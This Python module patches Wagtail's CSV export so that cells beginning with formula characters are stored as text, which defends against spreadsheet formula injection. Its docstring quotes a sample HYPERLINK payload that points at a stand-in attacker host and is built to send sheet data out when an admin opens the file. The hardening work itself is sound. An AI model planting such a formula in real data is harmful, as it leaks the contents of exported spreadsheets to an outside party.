"""CSV exports that a spreadsheet opens as text.

Wagtail's CSV exports (the site history and every other report, form submissions,
snippet listings) write each value as it is, and a spreadsheet runs a cell that begins
with = + - @ (or a tab or carriage return) as a formula: a page titled
`=HYPERLINK("https://evil.example/?"&A1, "Open")` becomes a link that sends the sheet's
data away when an admin opens the export. Wagtail leaves this to the consumer of the
file (its security docs); its XLSX export already stores such cells as text, so the
CSV export here does the same in the way spreadsheets understand: a leading `'`.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def as_spreadsheet_text(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def escape_formulas_in_csv_exports():
    """Wrap SpreadsheetExportMixin.preprocess_field_value, which every CSV cell passes
    through after the view's own preprocessing (called once, from SecurityConfig.ready)."""
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "escapes_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        processed = original(self, field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return as_spreadsheet_text(processed)
        return processed

    preprocess_field_value.escapes_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
